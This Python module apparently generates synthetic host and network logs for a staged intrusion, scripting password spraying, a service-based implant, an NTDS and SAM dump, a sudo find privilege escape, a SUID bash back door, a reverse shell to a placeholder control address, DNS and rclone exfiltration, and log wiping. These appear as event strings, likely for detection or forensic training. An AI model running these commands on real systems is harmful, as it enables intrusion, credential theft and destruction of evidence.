"""The second half of the story: guessing a password, the domain controller, the web server, the way out."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from samples.making.audit import Shell
from samples.making.cast import (
    CONTROL_ADDRESS,
    CONTROLLER,
    DROP_ADDRESS,
    DROP_NAME,
    PEOPLE,
    RULES_REMOVED,
    SERVICE_ACCOUNT,
    WEB_SERVER,
    WORKSTATION,
    at,
)
from samples.making.logons import (
    clears_log,
    fails,
    installs_service,
    leaves,
    logs_on,
    opens_share,
    writes_to_share,
)
from samples.making.windows import SYSTEM32

if TYPE_CHECKING:
    from samples.making.stage import Stage
    from samples.making.windows import Process, Session

__all__ = ["spread"]

_FROM = WORKSTATION.address
_BACK_DOOR = "/var/lib/.systemd-cache"


def spread(stage: Stage) -> None:
    """Play the steps from the first guess to the emptied log."""
    _guessing(stage)
    session, implant = _onto_the_controller(stage)
    _taking_the_domain(stage, session, implant)
    _onto_the_web_server(stage)
    _out(stage, session, implant)
    _covering_tracks(stage, session, implant)


def _guessing(stage: Stage) -> None:
    """09:34 to 09:47. One password on everyone, then many on the backup account."""
    minute = 94.0
    for person in PEOPLE[1:]:
        _attempt(stage, minute, person.account)
        minute += stage.chance.between(0.3, 0.6)
    minute = 101.0
    for _ in range(16):
        _attempt(stage, minute, SERVICE_ACCOUNT.account)
        minute += stage.chance.between(0.2, 0.35)
    session = logs_on(stage.dc, at(107.2), SERVICE_ACCOUNT, _FROM, station=WORKSTATION.name, privileged=True)
    leaves(stage.dc, at(107.3), session)


def _attempt(stage: Stage, minute: float, account: str) -> None:
    fails(stage.dc, at(minute), account, _FROM, WORKSTATION.name)
    stage.net.link(at(minute), _FROM, CONTROLLER.address, 445, "gssapi,ntlm,smb", sent=1180, received=1320)


def _onto_the_controller(stage: Stage) -> tuple[Session, Process]:
    """09:51. A program is copied to ADMIN$ and started as a service, later another through WMI."""
    dc, net = stage.dc, stage.net
    session = logs_on(dc, at(111.0), SERVICE_ACCOUNT, _FROM, station=WORKSTATION.name, privileged=True)
    link = net.link(
        at(111.0), _FROM, CONTROLLER.address, 445, "gssapi,ntlm,smb", sent=214_880, received=9_400, seconds=63
    )
    opens_share(dc, at(111.02), session, _FROM, "ADMIN$")
    writes_to_share(dc, at(111.05), session, _FROM, "ADMIN$", "HVUpdate.exe")
    net.file(at(111.05), link, "FILE_OPEN", f"\\\\{CONTROLLER.name}\\ADMIN$", "HVUpdate.exe", 0, at(111.05))
    for operation in ("OpenSCManagerW", "CreateServiceW", "StartServiceW"):
        net.calls(at(111.6), link, "\\pipe\\svcctl", "svcctl", operation)
    installs_service(dc, at(111.62), "HVUpdate", "%SystemRoot%\\HVUpdate.exe", sid=SERVICE_ACCOUNT.sid)
    implant = dc.start(
        at(111.66), stage.dc_services, "C:\\Windows\\HVUpdate.exe", "C:\\Windows\\HVUpdate.exe"
    )
    shell = dc.start(
        at(118.1),
        stage.dc_wmi,
        SYSTEM32 + "cmd.exe",
        "cmd.exe /Q /c quser 1> \\\\127.0.0.1\\ADMIN$\\__1794 2>&1",
        session,
    )
    dc.start(at(118.12), shell, SYSTEM32 + "quser.exe", "quser")
    return session, implant


def _taking_the_domain(stage: Stage, session: Session, implant: Process) -> None:
    """10:06. The directory database, the hives and a folder of documents are packed."""
    dc = stage.dc
    minute = 126.0
    commands = (
        ("ntdsutil.exe", 'ntdsutil "ac i ntds" "ifm" "create full C:\\PerfLogs\\hs" q q'),
        ("reg.exe", "reg save HKLM\\SYSTEM C:\\PerfLogs\\hs\\sys.hiv /y"),
        ("reg.exe", "reg save HKLM\\SAM C:\\PerfLogs\\hs\\sam.hiv /y"),
    )
    for name, command in commands:
        dc.start(at(minute), implant, SYSTEM32 + name, command)
        minute += 1.4
    packer = "C:\\PerfLogs\\7za.exe"
    dc.start(
        at(134.2),
        implant,
        packer,
        f"{packer} a -mx1 -hpHv!2026 C:\\PerfLogs\\hs.7z C:\\PerfLogs\\hs D:\\VanBan\\NoiBo",
    )
    leaves(dc, at(150.0), session)


def _onto_the_web_server(stage: Stage) -> None:
    """10:22. SSH is guessed from the workstation; root, a key, a job and a back door follow."""
    web, net = stage.web, stage.net
    minute = 142.0
    for index in range(14):
        account = ("root", "admin", "quantri")[index % 3]
        number = 21_000 + index
        web.session(at(minute), "USER_AUTH", account, _FROM, ok=False)
        web.session(at(minute + 0.01), "USER_LOGIN", account, _FROM, ok=False)
        web.says(
            at(minute + 0.01),
            "sshd",
            f"Failed password for {account} from {_FROM} port {50_000 + index} ssh2",
            number,
        )
        net.link(at(minute), _FROM, WEB_SERVER.address, 22, "ssh", sent=1_900, received=2_300, seconds=1.4)
        minute += stage.chance.between(0.15, 0.25)
    web.session(at(145.6), "USER_AUTH", "quantri", _FROM, ok=True)
    web.session(at(145.61), "USER_LOGIN", "quantri", _FROM, ok=True)
    web.says(at(145.61), "sshd", f"Accepted password for quantri from {_FROM} port 50121 ssh2", 21_120)
    net.link(at(145.6), _FROM, WEB_SERVER.address, 22, "ssh", sent=48_300, received=96_100, seconds=1490)
    _on_the_web_server(stage)


def _on_the_web_server(stage: Stage) -> None:
    web = stage.web
    person = Shell(21_140, 1000, 1000, 31, "pts1", "/home/quantri")
    for minute, program, arguments in ((145.9, "/usr/bin/id", ()), (146.1, "/usr/bin/uname", ("-a",))):
        web.runs(at(minute), person, program, *arguments)
    escape = ("find", "/etc", "-maxdepth", "0", "-exec", "/bin/bash", ";")
    sudo = web.runs(at(146.8), person, "/usr/bin/sudo", *escape)
    root = replace(web.runs(at(146.82), replace(sudo, uid=0), "/usr/bin/find", *escape[1:]), folder="/root")
    web.opens(at(147.3), root, "/usr/bin/cat", "/etc/shadow", flags=0x0, key="identity")
    web.opens(
        at(148.0), root, "/usr/bin/bash", "/root/.ssh/authorized_keys", flags=0x441, key="ssh_keys", made=True
    )
    web.opens(at(148.6), root, "/usr/bin/bash", "/etc/cron.d/dongbo", flags=0x241, key="cron", made=True)
    web.runs(at(149.1), root, "/usr/bin/cp", "/bin/bash", _BACK_DOOR)
    web.runs(at(149.2), root, "/usr/bin/chmod", "4755", _BACK_DOOR)
    web.runs(at(150.0), root, "/usr/bin/bash", "-c", f"bash -i >& /dev/tcp/{CONTROL_ADDRESS}/443 0>&1")
    stage.net.link(
        at(150.0), WEB_SERVER.address, CONTROL_ADDRESS, 443, sent=21_400, received=8_800, seconds=1310
    )
    web.runs(at(151.5), root, "/usr/bin/tar", "-czf", "/root/thu.tgz", "/var/vmail/haivan.example/lanhdao")
    _through_the_name_server(stage)
    web.runs(at(171.0), root, "/usr/bin/rm", "-f", "/var/log/auth.log", "/var/log/apache2/access.log")
    web.runs(at(RULES_REMOVED), root, "/usr/sbin/auditctl", "-D")
    for key in ("exec", "identity", "ssh_keys", "cron"):
        web.notes(
            at(RULES_REMOVED + 0.001),
            f'CONFIG_CHANGE|auid=1000 ses=31 op=remove_rule key="{key}" list=4 res=1',
        )


def _through_the_name_server(stage: Stage) -> None:
    """10:33 to 10:38. The web server's hashes leave in questions to the name server."""
    minute = 153.0
    for part in range(48):
        data = stage.chance.letters(52)
        stage.net.asks(
            at(minute), WEB_SERVER.address, f"{part:02x}.{data}.t.vanban-dientu.example", "-", "TXT"
        )
        minute += stage.chance.between(0.08, 0.13)


def _out(stage: Stage, session: Session, implant: Process) -> None:
    """10:35 to 10:52. The archive is copied to a server outside, 312 megabytes in four connections."""
    target = f":webdav:/hv --webdav-url https://{DROP_NAME}/dav --transfers 4"
    command = f"C:\\PerfLogs\\rclone.exe copy C:\\PerfLogs\\hs.7z {target}"
    stage.dc.start(at(155.0), implant, "C:\\PerfLogs\\rclone.exe", command, session)
    stage.net.asks(at(155.05), CONTROLLER.address, DROP_NAME, DROP_ADDRESS, server="10.84.10.1")
    for part, size in enumerate((81_220_140, 79_806_512, 80_114_937, 71_002_448)):
        stage.net.link(
            at(155.1 + part * 4.1),
            CONTROLLER.address,
            DROP_ADDRESS,
            443,
            "ssl",
            sent=size,
            received=188_000 + 911 * part,
            seconds=238 + part,
        )


def _covering_tracks(stage: Stage, session: Session, implant: Process) -> None:
    """10:56. The Security log of the controller is emptied."""
    stage.dc.start(at(176.0), implant, SYSTEM32 + "wevtutil.exe", "wevtutil cl Security", session)
    clears_log(stage.dc, at(176.01), session)
